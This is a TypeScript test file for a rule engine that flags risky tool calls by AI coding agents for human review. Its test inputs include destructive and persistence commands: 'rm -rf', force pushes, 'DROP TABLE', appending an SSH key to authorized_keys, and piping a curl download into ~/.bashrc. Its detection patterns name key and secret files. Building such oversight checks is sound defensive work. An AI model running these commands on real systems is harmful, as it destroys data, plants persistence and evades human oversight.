import { describe, expect, it } from "vitest";
import { DEFAULT_HIGH_RISK } from "./human/policy.js";
import { globLiteral, globMatch, pathWithin, requestFacts } from "./request-match.js";
import { isHighRisk, pathMatches } from "./risk-match.js";

describe("globMatch", () => {
  it("matches stars, question marks and literals over the whole text", () => {
    expect(globMatch("git push --force*", "git push --force origin main")).toBe(true);
    expect(globMatch("git push --force*", "echo git push --force")).toBe(false);
    expect(globMatch("*DROP TABLE*", "psql -c 'DROP TABLE users'")).toBe(true);
    expect(globMatch("ls ?", "ls a")).toBe(true);
    expect(globMatch("ls ?", "ls ab")).toBe(false);
    expect(globMatch("a*b*c", "aXXbYYc")).toBe(true);
    expect(globMatch("a*b*c", "aXXbYY")).toBe(false);
    expect(globMatch("*", "")).toBe(true);
    expect(globMatch("", "x")).toBe(false);
  });

  it("normalizes whitespace and can ignore case", () => {
    expect(globMatch("rm -rf *", "  rm   -rf\t/tmp/x ")).toBe(true);
    expect(globMatch("*drop table*", "DROP TABLE x", { ignoreCase: true })).toBe(true);
    expect(globMatch("*drop table*", "DROP TABLE x")).toBe(false);
  });

  it("keeps escaped characters literal", () => {
    expect(globMatch("echo \\*", "echo *")).toBe(true);
    expect(globMatch("echo \\*", "echo hello")).toBe(false);
    expect(globMatch(globLiteral("rm ./*.tmp"), "rm ./*.tmp")).toBe(true);
    expect(globMatch(globLiteral("rm ./*.tmp"), "rm ./a.tmp")).toBe(false);
    expect(globMatch(globLiteral("a?b\\c"), "a?b\\c")).toBe(true);
  });

  it("stays fast on a pathological pattern", () => {
    const text = "a".repeat(20_000);
    expect(globMatch(`${"*a".repeat(50)}b`, text)).toBe(false);
  });
});

describe("pathWithin", () => {
  it("is a path prefix, not a string prefix", () => {
    expect(pathWithin("/work/app/src", "/work/app")).toBe(true);
    expect(pathWithin("/work/app", "/work/app/")).toBe(true);
    expect(pathWithin("/work/application", "/work/app")).toBe(false);
    expect(pathWithin("/anything", "/")).toBe(true);
  });
});

describe("requestFacts", () => {
  it("reads the command from rawInput, as a string or an argv", () => {
    const session = { title: null, agent: { name: "claude-code" }, host: "laptop", cwd: "/work" };
    const facts = requestFacts({
      toolCall: { toolCallId: "t", kind: "execute", title: "Bash", rawInput: { command: ["git", "push"] } },
      session,
    });
    expect(facts).toEqual({
      kind: "execute",
      title: "Bash",
      command: "git push",
      cwd: "/work",
      host: "laptop",
      agent: "claude-code",
      writes: [],
      inputs: ["git", "push"],
    });
    expect(requestFacts({ toolCall: { toolCallId: "t", rawInput: "ls" }, session }).command).toBeNull();
  });
});

describe("isHighRisk", () => {
  const session = { title: null, agent: null, host: null, cwd: null };
  const facts = (command: string, kind = "execute") =>
    requestFacts({ toolCall: { toolCallId: "t", kind, title: "Bash", rawInput: { command } }, session });
  const patterns = [{ command: "git push --force*" }, { command: "rm -rf *" }, { command: "*drop table*" }];

  it("matches the whole command or any part of a chain, ignoring case", () => {
    expect(isHighRisk(patterns, facts("git push --force origin main"))).toBe(true);
    expect(isHighRisk(patterns, facts("cd /tmp && rm -rf build"))).toBe(true);
    expect(isHighRisk(patterns, facts("psql -c 'DROP TABLE users'"))).toBe(true);
    expect(isHighRisk(patterns, facts("git push origin main"))).toBe(false);
    expect(isHighRisk(patterns, facts("ls -la | grep rm"))).toBe(false);
  });

  it("needs every field a pattern names", () => {
    expect(isHighRisk([{ kind: "delete", title: "Bash" }], facts("ls", "delete"))).toBe(true);
    expect(isHighRisk([{ kind: "delete", title: "Bash" }], facts("ls", "execute"))).toBe(false);
    expect(isHighRisk([{ command: "*" }], requestFacts({ toolCall: { toolCallId: "t" }, session }))).toBe(false);
  });
});

describe("globMatch with lineBreaks", () => {
  it("keeps a line break apart from a space, and still folds runs of either", () => {
    expect(globMatch("ssh staging ./deploy.sh", "ssh staging\n./deploy.sh")).toBe(true);
    expect(globMatch("ssh staging ./deploy.sh", "ssh staging\n./deploy.sh", { lineBreaks: true })).toBe(false);
    expect(globMatch("ssh staging ./deploy.sh", "ssh  staging\t./deploy.sh", { lineBreaks: true })).toBe(true);
    expect(globMatch("a\nb", "a \r\n  b", { lineBreaks: true })).toBe(true);
  });
});

describe("pathMatches", () => {
  it("matches the path or any tail after a slash, normalized, ignoring case", () => {
    expect(pathMatches(".ssh/*", "/home/ada/.ssh/authorized_keys")).toBe(true);
    expect(pathMatches(".ssh/*", "~/.ssh/config")).toBe(true);
    expect(pathMatches(".ssh/*", "C:\\Users\\ada\\.SSH\\config")).toBe(true);
    expect(pathMatches(".bashrc", "/home/ada/project/../.bashrc")).toBe(true);
    expect(pathMatches(".bashrc", "/home/ada/.bashrc.bak")).toBe(false);
    expect(pathMatches("/etc/*", "/etc/hosts")).toBe(true);
    expect(pathMatches("/etc/*", "/home/etc/hosts")).toBe(false);
    expect(pathMatches("*.pem", "certs/server.pem")).toBe(true);
  });
});

describe("default high-risk patterns for tools without a command", () => {
  const session = { title: null, agent: null, host: null, cwd: "/repo" };
  const tool = (toolCall: Record<string, unknown>) =>
    isHighRisk(DEFAULT_HIGH_RISK, requestFacts({ toolCall: { toolCallId: "t", ...toolCall }, session }));
  const write = (path: string) =>
    tool({ kind: "edit", title: `Write: ${path}`, locations: [{ path }], rawInput: { file_path: path, content: "x" } });

  it("writes and edits to keys, secrets, start-up files and CI workflows are high-risk", () => {
    for (const path of [
      "/home/ada/.ssh/authorized_keys",
      "/repo/.env",
      "/repo/.env.production",
      "/repo/certs/server.pem",
      "/home/ada/.bashrc",
      "/home/ada/.zshrc",
      "/home/ada/.profile",
      "/repo/.github/workflows/deploy.yml",
    ]) {
      expect(write(path), path).toBe(true);
    }
    for (const path of ["/repo/src/env.ts", "/repo/README.md", "/repo/.github/CODEOWNERS"]) {
      expect(write(path), path).toBe(false);
    }
  });

  it("a diff's path counts whatever the kind; a read's location does not", () => {
    const diff = { type: "diff", path: "/home/ada/.ssh/config", oldText: null, newText: "Host *" };
    expect(tool({ kind: "other", title: "apply_patch", content: [diff] })).toBe(true);
    expect(tool({ kind: "read", title: "Read", locations: [{ path: "/repo/.env" }] })).toBe(false);
    expect(tool({ title: "mcp__fs__write_file", rawInput: { path: "/home/ada/.zshrc", content: "x" } })).toBe(true);
  });

  it("a command's redirections and tee count as writes", () => {
    const bash = (command: string) => tool({ kind: "execute", title: "Bash", rawInput: { command } });
    expect(bash("echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys")).toBe(true);
    expect(bash("curl -s https://x.example/install | tee -a ~/.bashrc")).toBe(true);
    expect(bash("echo hi > notes.txt 2>&1")).toBe(false);
  });

  it("MCP tools whose arguments drop or empty a table are high-risk", () => {
    const mcp = (sql: string) =>
      tool({ kind: "other", title: "mcp__postgres__query: x", rawInput: { db: "prod", query: { sql } } });
    expect(mcp("DROP TABLE users")).toBe(true);
    expect(mcp("drop  database app")).toBe(true);
    expect(mcp("BEGIN; TRUNCATE sessions; COMMIT")).toBe(true);
    expect(mcp("SELECT * FROM users")).toBe(false);
    expect(
      tool({ kind: "edit", title: "Write: m.sql", rawInput: { file_path: "/repo/m.sql", content: "DROP TABLE x" } }),
    ).toBe(false);
  });
});
